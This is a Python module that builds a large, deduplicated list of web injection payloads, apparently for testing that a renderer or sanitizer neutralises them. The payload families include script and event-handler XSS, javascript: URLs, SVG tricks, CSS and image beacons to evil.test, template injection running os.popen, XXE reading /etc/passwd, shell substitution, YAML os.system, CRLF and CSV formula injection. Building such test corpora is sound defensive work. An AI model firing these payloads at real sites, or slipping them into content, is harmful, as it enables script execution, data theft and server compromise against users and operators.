"""Texts that try to come alive in a page, by family: they set `pwned`, call `alert`, or ask evil.test for something.

All are written here or made of parts that are. Must never know which fields of a definition they go through.
"""

from collections.abc import Iterator

CALL = "window.pwned=1,alert(1)"
HANDLERS = (
    "onload onerror onclick onmouseover onfocus onanimationstart ontransitionend ontoggle onbegin onpointerenter "
    "onbeforetoggle onscrollend onpageshow onhashchange onwheel oncopy onpaste onkeydown"
).split()
ELEMENTS = "img svg body video audio iframe input details marquee object embed form math style link select a".split()
BLANKS = ("", " ", "\t", "\x01", "\x0c", "\xa0", "/")


def scripts() -> Iterator[str]:
    yield f"<script>{CALL}</script>"
    yield "<SCRIPT SRC=//evil.test/x.js></SCRIPT>"
    yield f"<script\n>{CALL}</script\n>"
    yield f"<script/x>{CALL}</script>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield "<script type=module>import('//evil.test/m.js')</script>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<script x>{CALL}"
    yield "<script>/*"
    yield f"</script><script>{CALL}</script>"
    yield f"<!--><script>{CALL}</script>-->"
    yield f"<![CDATA[<script>{CALL}</script>]]>"
    yield f"<?xml version='1.0'?><script xmlns='http://www.w3.org/1999/xhtml'>{CALL}</script>"
    yield f'<noscript><p title="</noscript><img src=x onerror={CALL}>"></noscript>'
    yield f"<template><script>{CALL}</script></template>"
    yield f"<div><template shadowrootmode=open><script>{CALL}</script></template></div>"
    for closing in (
        "title",
        "style",
        "textarea",
        "xmp",
        "iframe",
        "noembed",
        "plaintext",
        "pre",
        "code",
        "svg",
        "math",
    ):
        yield f"</{closing}><script>{CALL}</script>"


def handlers() -> Iterator[str]:
    for name in HANDLERS:
        yield f"<img src=x {name}={CALL}>"
        yield f'" autofocus {name}="{CALL}" x="'
    for element in ELEMENTS:
        yield f"<{element} onload={CALL} onerror={CALL} onfocus={CALL} autofocus tabindex=1 src=//evil.test/x>"
    for blank in BLANKS:
        yield f"<img{blank}src=x{blank}onerror{blank}={blank}{CALL}>"


def breakouts() -> Iterator[str]:
    for quote in ('"', "'", "`", "&quot;", "&#34;", "&#x27;", '\\"', "\\'", '""', "'\"", "＂"):
        yield f"{quote}><img src=x onerror={CALL}>"
        yield f"{quote} onmouseover={CALL} style=position:fixed;inset:0 {quote}"
    yield f'x\n\n" onclick={CALL}'
    yield f"-->\"]]>'</p></div></main></body></html><img src=x onerror={CALL}>"
    yield "<p><b><i><a href=#><table><td><div>"
    yield "</section></div></main><main id=main><h1>Other"


SCHEMES = (
    "javascript:", "JaVaScRiPt:", "java\tscript:", "java\nscript:", " javascript:", "\x01javascript:", "javascript&colon;", "javascript&#58;",
    "&#106;avascript:", "&#x6A;avascript:", "javascript%3A", "j\\avascript:", "javascript\x00:", "feed:javascript:", "view-source:javascript:",
    "data:text/html,", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==#", "DATA:image/svg+xml,", "vbscript:", "livescript:", "mocha:",
    "blob:https://evil.test/", "filesystem:http://evil.test/", "file:///etc/passwd#", "jar:http://evil.test!", "about:blank#", "tel:",
    "//evil.test/", "\\\\evil.test\\", "/\\evil.test/", "\\/evil.test/", "/\t/evil.test/", "///evil.test/", "https:evil.test/", "https:\\\\evil.test\\",
    "ws://evil.test/", "ftp://evil.test/", "intent://evil.test/", "chrome://settings/", "x-javascript:", "jav&Tab;ascript:", "jav&NewLine;ascript:",
)  # fmt: skip


def addresses() -> Iterator[str]:
    for scheme in SCHEMES:
        yield f"[x]({scheme}{CALL})"
    for scheme in SCHEMES[:12]:
        yield f"![x](<{scheme}{CALL}>)"
        yield f"<{scheme}{CALL}>"
        yield f"[x][r]\n\n[r]: {scheme}{CALL} 'x'"
    yield f'[x](https://example.com "\\" onmouseover={CALL}")'
    yield f'[x](https://example.com/"onmouseover={CALL})'
    yield f"[x](<https://example.com/'onmouseover={CALL} >)"
    yield "[x](https://user:pass@evil.test)"
    yield 'https://example.com/"><script>alert(1)</script>'
    yield "https://example.com/'onmouseover='alert(1)"
    yield '<https://example.com/"onmouseover=alert(1)>'
    yield f"[![x](javascript:{CALL})](javascript:{CALL})"
    yield "![x](https://evil.test/pixel.gif)"
    yield "![x](//evil.test/pixel.gif 'a')"
    yield f"[[javascript:{CALL}|x]]"
    yield f"[[x|<img src=x onerror={CALL}>]]"


def drawings() -> Iterator[str]:
    yield f"<svg onload={CALL}>"
    yield f"<svg><script>{CALL}</script></svg>"
    yield f"<svg><animate onbegin={CALL} attributeName=x dur=1s>"
    yield f"<svg><set attributeName=onload to={CALL}></svg>"
    yield f"<svg><a xlink:href=javascript:{CALL}><text y=20>x</text></a></svg>"
    yield f"<svg><use href=data:image/svg+xml,<svg/onload={CALL}>></use></svg>"
    yield f"<svg><foreignObject><iframe srcdoc='<script>{CALL}</script>'></foreignObject></svg>"
    yield "<svg><style>@import'//evil.test/x.css'</style></svg>"
    yield "<svg><image href=//evil.test/x.svg></svg>"
    yield f"<math><a xlink:href=javascript:{CALL}>x</a></math>"
    yield f"<math><mtext><table><mglyph><style><img src=x onerror={CALL}></style></mglyph></table></mtext></math>"
    yield f"<math href=javascript:{CALL}>x</math>"
    yield f"</text></svg><img src=x onerror={CALL}>"
    yield f"<svg><title><a id='</title><img src=x onerror={CALL}>'>"


def styles() -> Iterator[str]:
    yield "<style>*{background:url(//evil.test/a)}</style>"
    yield "<style>@import '//evil.test/a.css';</style>"
    yield "<link rel=stylesheet href=//evil.test/a.css>"
    yield "<link rel=preload as=image href=//evil.test/a.png>"
    yield "<link rel=dns-prefetch href=//evil.test>"
    yield "<div style=\"position:fixed;inset:0;background:url('//evil.test/a')\">"
    yield '<div style="width:expression(alert(1))">'
    yield "<p class=\"hidden-text skip bar\" style='display:none'>"
    yield '" style="background:url(//evil.test/a)" x="'
    yield "red;background:url(//evil.test/a)"
    yield "red}*{background:url(//evil.test/a)}"
    yield "url(javascript:alert(1))"
    yield "var(--swatch);}</style><script>alert(1)</script>"
    yield '```" style="background:url(//evil.test/a)\nx\n```'
    yield 'blue" data-x="1'
    yield '#fff"><b>'


CLOBBERED = (
    "location document cookie body head forms images links scripts getElementById querySelector addEventListener attributes "
    "children parentNode nodeName innerHTML createElement navigator main p-main source-text as-source __proto__ constructor "
    "prototype toString valueOf hasOwnProperty rolebookSearch fnref-1 fn-1 prompt when examples"
).split()


def clobbers() -> Iterator[str]:
    for name in CLOBBERED:
        yield f"# {name}"
    for name in CLOBBERED[:8]:
        yield f"<form name={name}><input name={name} id={name}></form><a id={name} name=href href=javascript:{CALL}>"
    yield '# a" onfocus="alert(1)'
    yield "# <b id=main>"
    yield '[^main]\n\n[^main]: note\n\n[^"><b>]: x'


def templates() -> Iterator[str]:
    yield "{{ 7*7 }}"
    yield "{{7777*7777}}"
    yield "{% raw %}{{ x }}{% endraw %}"
    yield "{% include '/etc/passwd' %}"
    yield "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}"
    yield "{{ ''.__class__.__mro__[1].__subclasses__() }}"
    yield "{{ config.items() }}{{ self.__dict__ }}"
    yield "{{ page.frame }}{{ cycler.__init__.__globals__.os.popen('id').read() }}"
    yield "{# a comment #}visible"
    yield "# line statement\n## {{ x }}"
    yield "${7777*7777}"
    yield "#{7777*7777}"
    yield "<%= 7777*7777 %>"
    yield "<? echo 7777*7777 ?>"
    yield "[[${7777*7777}]]"
    yield "*{7777*7777}"
    yield "@{7777*7777}"
    yield "{{constructor.constructor('alert(1)')()}}"
    yield "{{$on.constructor('alert(1)')()}}"
    yield "%s %d %(x)s {0} {x!r} {0.__class__}"
    yield "{{ x | safe }}<b>{{ '<script>alert(1)</script>' | safe }}"
    yield "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e"


def machines() -> Iterator[str]:
    """Aim at what programs read: JSON, scripts, XML, Mermaid, terminals, shells, tables."""
    yield f'"}}]}});{CALL};//'
    yield f"');{CALL};('"
    yield f'"]);{CALL};rolebookSearch.put("'
    yield f'\\"]);{CALL};//'
    yield "\\"
    yield f"</script><script>{CALL}</script><script>"
    yield "<!--<script>"
    yield f"\u2028{CALL}\u2029"
    yield f"]]><script>{CALL}</script><![CDATA["
    yield "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;"
    yield "<!ENTITY a '&b;&b;'>&a;"
    yield "</loc></url><url><loc>https://evil.test/"
    yield '"]; click a1 "javascript:alert(1)"; a2["'
    yield '"]\n  click a1 href "//evil.test"\n  a2["'
    yield "%%{init: {'securityLevel':'loose'}}%%"
    yield "end\nsubgraph x"
    yield "__proto__"
    yield '{"__proto__": {"pwned": 1}}'
    yield "\x1b]8;;https://evil.test\x07x\x1b]8;;\x07"
    yield "\x1b[2J\x1b[31mred"
    yield "=cmd|' /C calc'!A0"
    yield "$(touch /tmp/pwned)`touch /tmp/pwned`;touch /tmp/pwned|"
    yield "::error file=x::pwned"
    yield "%0a::set-output name=x::pwned"
    yield "x\r\nSet-Cookie: pwned=1\r\n\r\n<script>alert(1)</script>"
    yield "../../../../etc/passwd"


def encodings() -> Iterator[str]:
    yield "&lt;script&gt;alert(1)&lt;/script&gt;"
    yield "&#60;img src=x onerror=alert(1)&#62;"
    yield "&#x3c;img src=x onerror=alert(1)&#x3e;"
    yield "&#0000060img src=x onerror=alert(1)&#0000062"
    yield "&LT;img src=x onerror=alert(1)&GT;"
    yield "&NewLine;&Tab;&colon;&lpar;&rpar;&quot;&apos;"
    yield "+ADw-script+AD4-alert(1)+ADw-/script+AD4-"
    yield "＜script＞alert(1)＜/script＞"
    yield "\u2039script\u203aalert(1)\u2039/script\u203a"
    yield "%3Cscript%3Ealert(1)%3C/script%3E"
    yield "<scr\x00ipt>alert(1)</scr\x00ipt>"
    yield "<img src=x onerror\x00=alert(1)>"
    yield "\x00<b>\x00"
    yield "\x0b<img\x0bsrc=x\x0bonerror=alert(1)>"
    yield "\u202e<tpircs>\u202c"
    yield "\u200b<\u200bscript>alert(1)</script>"
    yield "\ufeff<script>alert(1)</script>"
    yield "ſcript <ſcript>alert(1)</ſcript>"
    yield "<ımg src=x onerror=alert(1)>"
    yield "\U000e003c\U000e0062\U000e003e\U000e0022"
    yield "&amp;lt;script&amp;gt;"
    yield "&#1114112;&#xD800;&#0;&#x110000;"


def elements() -> Iterator[str]:
    yield "<base href=//evil.test/>"
    yield "<meta http-equiv=refresh content='0;url=//evil.test/'>"
    yield '<meta http-equiv=Content-Security-Policy content="default-src *">'
    yield "<iframe src=//evil.test/></iframe>"
    yield f"<iframe srcdoc='<script>{CALL}</script>'></iframe>"
    yield "<object data=//evil.test/></object><embed src=//evil.test/>"
    yield "<form action=//evil.test/><button>Send</button></form>"
    yield "<button form=x formaction=javascript:alert(1)>x</button>"
    yield "<input type=image src=//evil.test/a.png>"
    yield "<video poster=//evil.test/a.png src=//evil.test/a.mp4 autoplay></video>"
    yield "<audio src=//evil.test/a.mp3 autoplay></audio>"
    yield "<img srcset='//evil.test/a.png 1x'>"
    yield "<picture><source srcset=//evil.test/a.png><img></picture>"
    yield "<table background=//evil.test/a.png><td background=//evil.test/b.png>"
    yield "<applet code=//evil.test/>"
    yield "<frameset><frame src=javascript:alert(1)></frameset>"
    yield "<portal src=//evil.test/>"
    yield "<a href=//evil.test ping=//evil.test/p target=_top>x</a>"
    yield "<isindex action=javascript:alert(1) type=image>"
    yield "<dialog open><p>Log in</p></dialog>"
    yield "<xss id=x tabindex=1 onfocus=alert(1)></xss>"
    yield "<plaintext>"
    yield "<textarea>"
    yield "<select><template><option onclick=alert(1)>"
    yield "<title>Other</title>"
    yield "<body background=//evil.test/>"
    yield "<html manifest=//evil.test/x>"
    yield '<br size="&{alert(1)}">'
    yield "<p data-copy=main data-search=//evil.test/ data-root=//evil.test/>"


def notations() -> Iterator[str]:
    """Aim at the notations of Markdown, prompts and headers."""
    yield '```"><script>alert(1)</script>\nx\n```'
    yield "```html onload=alert(1)\n<script>alert(1)</script>\n```"
    yield "~~~</code></pre><script>alert(1)</script>\nx\n~~~"
    yield "`</code><script>alert(1)</script>`"
    yield '| a | b" onclick="alert(1) |\n|:-:|---|\n| <script>alert(1)</script> | x |'
    yield "> <script>alert(1)</script>\n> > <img src=x onerror=alert(1)>"
    yield "1. <script>\n2. alert(1)\n3. </script>"
    yield "**<script>alert(1)</script>**: _<img src=x onerror=alert(1)>_"
    yield '<role onclick="alert(1)">\nx\n</role>'
    yield '<example onclick=\'alert(1)\'>\nuser: "<script>alert(1)</script>"\nassistant: "x"\n</example>'
    yield "<commentary><script>alert(1)</script></commentary>"
    yield '- [x] <script>alert(1)</script>\n- ["><b>] y'
    yield "[^1]: <script>alert(1)</script>\n\nx[^1]"
    yield 'Use the "><script>alert(1)</script> agent.'
    yield "- **<img src=x onerror=alert(1)>**: provides <b>data</b>"
    yield '@<script>alert(1)</script> and @"onclick=alert(1)'
    yield "--- \nname: <script>alert(1)</script>\n---"
    yield "!!python/object/apply:os.system ['touch /tmp/pwned']"
    yield "*alias &anchor !tag |"
    yield "<a\n\nhref=javascript:alert(1)>x</a>"
    yield "<div\n\nonclick=alert(1)\n\n>x</div>"
    yield "$$\\href{javascript:alert(1)}{x}$$"
    yield ":::{raw} html\n<script>alert(1)</script>\n:::"
    yield '[x]: <javascript:alert(1)> "onclick=alert(1)"\n\n[x]'
    yield "=== <script>alert(1)</script> ===\n==="


FAMILIES = (
    scripts, handlers, breakouts, addresses, drawings, styles, clobbers, templates, machines, encodings, elements, notations,
)  # fmt: skip
PAYLOADS: tuple[str, ...] = tuple(dict.fromkeys(payload for family in FAMILIES for payload in family()))
"""All of them, each once."""
